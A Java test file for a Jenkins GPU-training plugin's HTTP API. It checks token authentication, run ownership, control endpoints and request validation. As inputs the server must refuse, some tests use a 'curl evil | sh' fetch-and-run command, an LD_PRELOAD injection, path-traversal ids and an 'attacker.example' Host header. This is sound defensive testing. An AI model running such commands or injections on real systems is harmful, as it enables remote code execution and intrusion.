package io.jenkins.plugins.gputraining.agent.server;

import io.jenkins.plugins.gputraining.model.fixtures.RunFixture;
import static io.jenkins.plugins.gputraining.agent.server.ReadApiTest.assertError;
import static org.assertj.core.api.Assertions.assertThat;

import com.fasterxml.jackson.databind.JsonNode;
import io.jenkins.plugins.gputraining.model.control.ControlChannel;
import io.jenkins.plugins.gputraining.model.progress.RunStatus;
import java.net.http.HttpResponse;
import java.nio.file.Files;
import java.nio.file.Path;
import java.time.Duration;
import java.util.List;
import java.util.regex.Pattern;
import java.util.stream.Stream;
import org.junit.jupiter.api.AfterEach;
import org.junit.jupiter.api.BeforeEach;
import org.junit.jupiter.api.Test;
import org.junit.jupiter.api.io.TempDir;

/** Tokens, ownership, the control endpoints and the validation of POST /api/training, over real HTTP. */
class ControlAndSecurityTest {
    static final String ALICE = "alice-token-0123456789";
    static final String BOB = "bob-token-0123456789";
    static final String ROOT = "root-token-0123456789";
    static final ApiTokens TOKENS = ApiTokens.parse("""
            # the team
            alice:%s
            bob:%s
            root:%s:admin
            """.formatted(ALICE, BOB, ROOT), "test tokens");

    @TempDir
    Path runs;

    private TrainingServer server;
    private Api api;

    @BeforeEach
    void start() throws Exception {
        RunFixture.run(runs, "alices").status(RunStatus.RUNNING).gpus(0)
                .workingDirectory(runs.resolve("alices").toString())
                .curve(10, 1.0, 2.0, 0.8, 100).exited().endedAt(11).output("training alices\nstep 1 loss 2.0\n").write();
        RunOwner.write(runs.resolve("alices"), TOKENS.authenticateToken(ALICE).orElseThrow(),
                runs.resolve("alices").toRealPath());
        RunFixture.run(runs, "unowned").status(RunStatus.RUNNING).gpus(0)
                .workingDirectory(runs.resolve("unowned").toString())
                .curve(10, 1.0, 2.0, 0.8, 100).exited().endedAt(11).output("training unowned\nstep 1 loss 2.0\n").write();
        RunFixture.run(runs, "done").status(RunStatus.COMPLETED).gpus(0)
                .workingDirectory(runs.resolve("done").toString())
                .curve(10, 1.0, 2.0, 0.8, 100).exited().endedAt(11).output("training done\nstep 1 loss 2.0\n").write();
        startServer(ServerConfig.builder(runs).port(0).tokens(TOKENS).controlTimeout(Duration.ofMillis(200)));
    }

    private void startServer(final ServerConfig.Builder config) throws Exception {
        if (server != null) {
            server.close();
        }
        server = TrainingServer.start(config.build());
        api = new Api(server);
    }

    @AfterEach
    void stop() {
        server.close();
    }

    private static List<JsonNode> requests(final Path run) throws Exception {
        Path folder = run.resolve(ControlChannel.FOLDER);
        if (!Files.isDirectory(folder)) {
            return List.of();
        }
        try (Stream<Path> files = Files.list(folder)) {
            return files.filter(file -> file.getFileName().toString().endsWith(".request.json")).sorted()
                    .map(file -> {
                        try {
                            return Api.JSON.readTree(file.toFile());
                        }
                        catch (java.io.IOException e) {
                            throw new java.io.UncheckedIOException(e);
                        }
                    }).toList();
        }
    }

    @Test
    void theOwnerPausesItsRunThroughTheControlChannel() throws Exception {
        HttpResponse<String> response = api.post("/api/training/alices/pause", ALICE, "{\"mode\": \"checkpoint\"}");

        assertThat(response.statusCode()).as(response.body()).isEqualTo(202);
        JsonNode body = Api.json(response);
        assertThat(body.get("job_id").asText()).isEqualTo("alices");
        assertThat(body.get("action").asText()).isEqualTo("pause");
        assertThat(body.get("mode").asText()).isEqualTo("checkpoint");
        assertThat(body.get("outcome").isNull()).as("no agent runs this test run").isTrue();
        List<JsonNode> requests = requests(runs.resolve("alices"));
        assertThat(requests).singleElement().satisfies(request -> {
            assertThat(request.get("id").asText()).isEqualTo(body.get("request_id").asText());
            assertThat(request.get("action").asText()).isEqualTo("pause");
            assertThat(request.get("mode").asText()).isEqualTo("checkpoint");
            assertThat(request.get("requested_by").asText()).isEqualTo("alice");
        });
    }

    @Test
    void onlyTheOwnerOrAnAdminControlsARun() throws Exception {
        assertError(api.post("/api/training/alices/cancel", BOB, null), 403, "started with another token");
        assertThat(requests(runs.resolve("alices"))).isEmpty();

        assertThat(api.post("/api/training/alices/resume", ROOT, "").statusCode()).isEqualTo(202);
        assertThat(api.post("/api/training/unowned/pause", BOB, null).statusCode())
                .as("a run the service did not start belongs to no token").isEqualTo(202);
        assertThat(requests(runs.resolve("alices"))).extracting(request -> request.get("requested_by").asText())
                .containsExactly("root");
    }

    @Test
    void missingOrBadTokensAre401() throws Exception {
        HttpResponse<String> missing = api.post("/api/training/alices/pause", null, null);
        assertError(missing, 401, "needs a bearer token");
        assertThat(missing.headers().firstValue("WWW-Authenticate").orElseThrow()).startsWith("Bearer");
        assertError(api.post("/api/training/alices/pause", "wrong-token-0123456789", null), 401, "not valid");
        assertError(api.post("/api/training", null, "{\"command\": [\"true\"]}"), 401, "needs a bearer token");
        HttpResponse<String> basic = api.client().send(java.net.http.HttpRequest.newBuilder(
                        api.uri("/api/training/alices/pause")).header("Authorization", "Basic YWxpY2U6eA==")
                .POST(java.net.http.HttpRequest.BodyPublishers.noBody()).build(),
                java.net.http.HttpResponse.BodyHandlers.ofString());
        assertError(basic, 401, "not valid");
        assertThat(requests(runs.resolve("alices"))).isEmpty();
    }

    @Test
    void controlAnswersFinishedUnknownAndMalformed() throws Exception {
        assertError(api.post("/api/training/done/pause", ALICE, null), 409, "is completed");
        assertError(api.post("/api/training/nope/pause", ALICE, null), 404, "no run \"nope\"");
        assertError(api.post("/api/training/..%2Fx/cancel", ALICE, null), 400, "bad run id");
        assertError(api.post("/api/training/alices/pause", ALICE, "{\"mode\": \"sleep\"}"), 400, "bad \"mode\"");
        assertError(api.post("/api/training/alices/pause", ALICE, "{\"force\": true}"), 400, "unknown field");
        assertError(api.post("/api/training/alices/resume", ALICE, "{\"mode\": \"suspend\"}"), 400,
                "resume takes no body");
        assertError(api.post("/api/training/alices/pause", ALICE, "{mode"), 400, "not valid JSON");
        assertError(api.post("/api/training/alices/pause", ALICE, "[1]"), 400, "must be a JSON object");
        assertError(api.post("/api/training/alices/pause", ALICE, "{\"mode\": \"" + "x".repeat(70_000) + "\"}"),
                413, "request body too large");
        assertThat(requests(runs.resolve("alices"))).isEmpty();
    }

    @Test
    void withoutTokensStartingAndControllingIsRefusedWithHowToConfigure() throws Exception {
        startServer(ServerConfig.builder(runs).port(0));

        HttpResponse<String> start = api.post("/api/training", ALICE, "{\"command\": [\"true\"]}");
        assertError(start, 503, "--token-file");
        assertThat(Api.json(start).get("error").asText()).contains("chmod 600").doesNotContain("GPU_TRAINING_TOKENS");
        assertError(api.post("/api/training/unowned/pause", null, null), 503, "no API tokens are configured");
        assertThat(api.get("/api/training").statusCode()).as("reads stay open").isEqualTo(200);
    }

    @Test
    void startRequestsAreValidated() throws Exception {
        assertError(api.post("/api/training", ALICE, "{}"), 400, "\"command\" is required");
        assertError(api.post("/api/training", ALICE, "{\"command\": \"python3 train.py\"}"), 400,
                "non-empty array of strings");
        assertError(api.post("/api/training", ALICE, "{\"command\": []}"), 400, "non-empty array");
        assertError(api.post("/api/training", ALICE, "{\"command\": [\"python3\", 3]}"), 400, "strings only");
        assertError(api.post("/api/training", ALICE, "{\"command\": [\"true\"], \"job_id\": \"../x\"}"), 400,
                "bad run id");
        assertError(api.post("/api/training", ALICE, "{\"command\": [\"true\"], \"job_id\": \"done\"}"), 409,
                "already exists");
        assertError(api.post("/api/training", ALICE, "{\"command\": [\"true\"], \"gpu\": 1}"), 400,
                "unknown field \"gpu\"");
        assertError(api.post("/api/training", ALICE, "{\"command\": [\"true\"], \"format\": \"xml\"}"), 400,
                "bad \"format\"");
        assertError(api.post("/api/training", ALICE, "{\"command\": [\"true\"], \"env\": {\"1X\": \"y\"}}"), 400,
                "bad \"env\" name");
        assertError(api.post("/api/training", ALICE, "{\"command\": [\"true\"], \"env\": {\"GPU_TRAINING_RUN_DIR\":"
                + " \"/\"}}"), 400, "GPU_TRAINING_");
        assertError(api.post("/api/training", ALICE, "{\"command\": [\"true\"], \"working_dir\": \"../../..\"}"),
                400, "leaves the run's workspace");
        assertError(api.post("/api/training", ALICE, "{\"command\": [\"true\"], \"working_dir\": \"/tmp\"}"), 403,
                "outside the allowed workspaces");
        assertError(api.post("/api/training", ALICE, "{\"command\": [\"" + "x".repeat(70_000) + "\"]}"), 413,
                "request body too large");
        assertError(api.post("/api/training", ALICE, "{\"command\": [\"true\"], \"command\": [\"false\"]}"), 400,
                "not valid JSON");
        HttpResponse<String> form = api.client().send(java.net.http.HttpRequest.newBuilder(api.uri("/api/training"))
                .header("Authorization", "Bearer " + ALICE).header("Content-Type", "application/x-www-form-urlencoded")
                .POST(java.net.http.HttpRequest.BodyPublishers.ofString("{\"command\": [\"true\"]}")).build(),
                HttpResponse.BodyHandlers.ofString());
        assertError(form, 415, "must be JSON");
        try (Stream<Path> children = Files.list(runs)) {
            assertThat(children.map(path -> path.getFileName().toString()))
                    .as("refused requests leave nothing behind").containsExactlyInAnyOrder("alices", "unowned", "done");
        }
    }

    @Test
    void anAllowListRefusesOtherCommandsAndRiskyVariables() throws Exception {
        startServer(ServerConfig.builder(runs).port(0).tokens(TOKENS)
                .allowCommand(Pattern.compile("python3 train\\.py( .*)?")));

        assertError(api.post("/api/training", ALICE, "{\"command\": [\"sh\", \"-c\", \"curl evil | sh\"]}"), 403,
                "command not allowed");
        assertError(api.post("/api/training", ALICE, "{\"command\": [\"python3\", \"train.py\"], \"env\": "
                + "{\"LD_PRELOAD\": \"/tmp/x.so\"}}"), 403, "LD_PRELOAD");
        assertError(api.post("/api/training", ALICE, "{\"command\": [\"python3\", \"evil.py\", \"train.py\"]}"), 403,
                "command not allowed");
    }

    @Test
    void aForeignHostIsRefusedOnLoopback() throws Exception {
        String response = api.raw("GET /api/training HTTP/1.1\r\nHost: attacker.example\r\nConnection: close\r\n\r\n");

        assertThat(response).startsWith("HTTP/1.1 403");
        assertThat(response).contains("\"error\"", "is not a name this service answers to");
        assertThat(api.raw("GET /api/health HTTP/1.1\r\nHost: localhost:1\r\nConnection: close\r\n\r\n"))
                .startsWith("HTTP/1.1 200");
    }

    @Test
    void jettyLevelErrorsAreJsonToo() throws Exception {
        String response = api.raw("GET /api/training/a%00b HTTP/1.1\r\nHost: 127.0.0.1\r\nConnection: close\r\n\r\n");

        assertThat(response).startsWith("HTTP/1.1 400");
        assertThat(response).contains("application/json", "{\"error\":\"HTTP 400");
    }

    @Test
    void readsCanRequireAToken() throws Exception {
        startServer(ServerConfig.builder(runs).port(0).tokens(TOKENS).readTokenRequired(true));

        assertError(api.get("/api/training"), 401, "needs a bearer token");
        assertError(api.get("/api/training/alices/analytics"), 401, "needs a bearer token");
        assertError(api.get("/api/training/alices", "Authorization", "Bearer nope-nope-nope-nope"), 401, "not valid");
        assertThat(api.get("/api/training", "Authorization", "Bearer " + BOB).statusCode()).isEqualTo(200);
        assertThat(api.get("/api/health").statusCode()).as("health stays open for monitoring").isEqualTo(200);

        java.net.URI stream = java.net.URI.create("ws://127.0.0.1:" + server.port() + "/api/training/alices/stream");
        StreamTest.Recorder refused = new StreamTest.Recorder(true);
        org.assertj.core.api.Assertions.assertThatThrownBy(() -> api.client().newWebSocketBuilder()
                        .buildAsync(stream, refused).get(10, java.util.concurrent.TimeUnit.SECONDS))
                .cause().satisfies(e -> assertThat(((java.net.http.WebSocketHandshakeException) e).getResponse()
                        .statusCode()).isEqualTo(401));
        StreamTest.Recorder browser = new StreamTest.Recorder(true);
        java.net.http.WebSocket socket = api.client().newWebSocketBuilder()
                .buildAsync(java.net.URI.create(stream + "?access_token=" + ALICE), browser)
                .get(10, java.util.concurrent.TimeUnit.SECONDS);
        assertThat(browser.next().get("type").asText()).isEqualTo("snapshot");
        socket.abort();
    }

    @Test
    void tokensParseAndNeverEchoTheSecret() {
        assertThat(TOKENS.size()).isEqualTo(3);
        assertThat(TOKENS.authenticate("Bearer " + ROOT)).hasValueSatisfying(principal -> {
            assertThat(principal.name()).isEqualTo("root");
            assertThat(principal.admin()).isTrue();
            assertThat(principal.tokenDigest()).isEqualTo(ApiTokens.digestHex(ROOT)).doesNotContain(ROOT);
        });
        assertThat(TOKENS.authenticate("bearer " + ALICE)).hasValueSatisfying(principal ->
                assertThat(principal.admin()).isFalse());
        assertThat(TOKENS.authenticate(ALICE)).isEmpty();
        assertThat(TOKENS.authenticate("Bearer " + ALICE + "x")).isEmpty();

        org.assertj.core.api.Assertions.assertThatThrownBy(() -> ApiTokens.parse("x:short", "f"))
                .hasMessageContaining("f line 1").hasMessageContaining("shorter than 16").hasMessageNotContaining("short:");
        org.assertj.core.api.Assertions.assertThatThrownBy(() -> ApiTokens.parse("a b:" + ALICE, "f"))
                .hasMessageContaining("the name").hasMessageNotContaining(ALICE);
        org.assertj.core.api.Assertions.assertThatThrownBy(() -> ApiTokens.parse("a:" + ALICE + ":root", "f"))
                .hasMessageContaining("may only be \"admin\"").hasMessageNotContaining(ALICE);
        org.assertj.core.api.Assertions.assertThatThrownBy(() -> ApiTokens.parse("a:" + ALICE + "\nb:" + ALICE, "f"))
                .hasMessageContaining("repeats another token").hasMessageNotContaining(ALICE);
        org.assertj.core.api.Assertions.assertThatThrownBy(() -> ApiTokens.parse("a:" + ALICE + "\na:" + BOB, "f"))
                .hasMessageContaining("used twice");
    }
}
